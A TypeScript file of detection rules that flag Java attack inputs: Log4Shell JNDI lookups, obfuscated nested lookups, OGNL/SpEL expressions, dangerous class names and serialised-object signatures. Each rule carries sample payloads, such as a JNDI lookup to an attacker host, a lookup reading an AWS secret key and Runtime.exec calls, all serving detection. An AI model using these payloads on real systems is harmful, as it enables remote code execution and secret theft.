import type { Rule } from '../rule.ts';

const cls = 'java';

/** Java: lookups of Log4j, classes that run code, expressions of OGNL and Spring, serialised objects. */
export const JAVA: readonly Rule[] = [
  {
    id: 'java-lookup',
    cls,
    score: 12,
    reason: 'a JNDI lookup (Log4Shell)',
    literals: ['jndi', 'ldap:', 'rmi:', 'ldaps:'],
    pattern:
      /(?:\$?\\?\{[^a-z]{0,3}jndi[^a-z]{0,4}:(?!\w{2,5}:\/{0,2}(?:\.{3}|…|<|\[|\s|$))|jndi:(?:ldaps?|rmi|dns|iiop|nis|corba|https?|nds):\/{0,2}[\w$[{*%]|\$\\?\{[^}]{0,200}(?:ldaps?|rmi|dns|iiop|corba):\/\/[\w$[{*%])/,
    views: ['plain', 'glued', 'squeezed'],
    attacks: ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://x/a}'],
    harmless: ['JNDI is an interface', 'ldap://directory.example'],
  },
  {
    id: 'java-nested-lookup',
    cls,
    score: 8,
    reason: 'a lookup within a lookup, as Log4Shell is hidden',
    literals: ['${'],
    pattern:
      /\$\\?\{[^{}$]{0,32}\$\\?\{[^{}$]{0,32}(?:(?:lower|upper|env|sys|date|java|ctx|base64|main|map|sd|bundle|marker|event|docker|k8s|spring|web):|:?:-)/,
    attacks: ['${${::-j}ndi:x}', '${${env:X:-j}ndi:y}'],
    harmless: ['${a${b}}'],
  },
  {
    id: 'java-lookup-value',
    cls,
    score: 5,
    reason: 'a lookup of Log4j',
    literals: ['${'],
    pattern:
      /\$\\?\{\s?(?:env|sys|java|ctx|lower|upper|date|main|bundle|docker|k8s|spring|script|dns|url|const|base64(?:decoder|encoder)?|file|xml|properties|resourcebundle|urldecoder|urlencoder|localhost)\\?:(?!-)[^}\s]{0,200}[\s}]/,
    attacks: ['${env:AWS_SECRET_ACCESS_KEY}', '${script:javascript:1+1}'],
    harmless: ['${color:red', '${environment}'],
  },
  {
    id: 'java-class',
    cls,
    score: 5,
    reason: 'a class of Java that no value needs to name',
    literals: [
      'thread.sleep',
      'java.',
      'javax.',
      'org.',
      'com.',
      'sun.',
      'getruntime',
      'processbuilder',
      'clojure',
      'groovy',
      'freemarker',
      'java/',
      'classloader',
      'runtime',
      'jdk.',
      'bsh.',
      'ysoserial',
      'marshalsec',
      '.execute()',
      '@type',
    ],
    pattern:
      /(?:^|[^\w.])(?:java\.(?:runtime\b|lang\.(?!\w{1,40}(?:exception|error)\b)\w{1,40}|io\.\w{1,40}|net\.(?:url|socket|server|uri|inet)\w{0,24}|util\.(?:scanner|service\w{0,16}|jar|zip|concurrent|prefs|logging|prior\w{0,16}|base64)|rmi|beans|nio|awt|sql|security|math|text)|javax\.(?:script|management|naming|swing|imageio|el|servlet|crypto|sql|xml|security|tools|activation|mail|net|print|sound|transaction|ws|annotation|accessibility|rmi|jws|lang|persistence)|org\.(?:apache\.(?:commons|struts2?|xalan|tomcat|myfaces|wicket|xbean|catalina|log4j|logging|shiro|axis|ibatis|naming|velocity|batik)|omg\.corba|mozilla\.(?:javascript|classfile)|springframework|hibernate|codehaus|jboss|w3c\.dom|xml\.sax|ietf\.jgss|jcp\.xml|python\.core)|com\.(?:opensymphony|sun\.|mchange|oracle\.|ibm\.|bea\.|alibaba\.fastjson|thoughtworks|rometools|nqadmin|caucho)|sun\.(?:misc|net|rmi|reflect|security|print|awt)|clojure\.(?:core|main)|groovy\.(?:lang|util|runtime|ui)|freemarker\.template|bsh\.interpreter|jdk\.(?:nashorn|internal|xml))|getruntime\s?\(|\bprocessbuilder\b|runtime\.exec|classloader\.(?:resources|defineclass|loadclass|parent)|java\/lang\/(?:runtime|process)|unmarshaller|\bthread\.sleep\s?\(|\bysoserial\b|marshalsec|["']\s?\.execute\(\)|@type["']\s?:\s?["'](?:l?com\.|l?org\.|l?java|l?ch\.|l?br\.|l?net\.)/,
    views: ['plain', 'glued'],
    attacks: ['java.lang.Runtime', 'javax.script.ScriptEngineManager', 'getRuntime().exec("id")'],
    harmless: ['java is an island', 'com.example.app', 'org.example'],
  },
  {
    id: 'java-expression',
    cls,
    score: 8,
    reason: 'an expression of OGNL, SpEL or EL that reaches for classes',
    literals: [
      'ognl',
      '#',
      't(',
      '@',
      'class.',
      'getclass',
      '.forname',
      'newinstance',
      'scriptengine',
      'memberaccess',
      'redirect:',
      'action:',
      '_memberaccess',
    ],
    pattern:
      /(?:@ognl|ognl\.|#_?memberaccess|#context\[|#(?:application|session|request|parameters|attr)\s?\[|#(?:a|req|res|rt|cmd|p|f|iswin|cmds|ros|process|application|session|parameters|request|response|attr|dm|out|container|xwork|rce|clazz)\s?=\s?[(@#n]|\bt\s?\(\s?java\.|@java\.|@\w{1,32}(?:\.\w{1,32}){2,8}@\w|class\.(?:module\.)?classloader|getclass\s?\(\s?\)\s?\.|\.getclass\(|\.forname\s?\(|newinstance\s?\(|getenginebyname|scriptenginemanager|class\[["']?(?:module|classloader)|(?:redirect|action|redirectaction):\s?(?:\$|%)\{|new\sjava\.)/,
    attacks: [
      '%{(#_memberAccess=@ognl.OgnlContext@X)}',
      '${T(java.lang.System).getenv()}',
      'class.module.classLoader.resources',
    ],
    harmless: ['first class. classes', '#a heading', 'pay t (ten)'],
  },
  {
    id: 'java-serialised',
    cls,
    score: 8,
    reason: 'a serialised object of Java or .NET',
    literals: ['ro0ab', 'aced0005', 'kztaau', 'cs7qaf', 'rotab', 'h4si', 'aaeaaad', '/we', 'ac ed', 'ro0ca'],
    pattern:
      /(?:^|[^a-z0-9+/])(?:ro0ab[a-z\d]|ro0ca|aced ?0005|kztaau|cs7qaf|h4siaaaaaaaa|aaeaaad\/{3,8}|\/we(?:pd[wa]|wa[a-z]|y[a-d]|xa))|^ac ed 00 05/,
    attacks: ['rO0ABXNyABFqYXZh', 'aced000573720011'],
    harmless: ['zero0able'],
  },
];
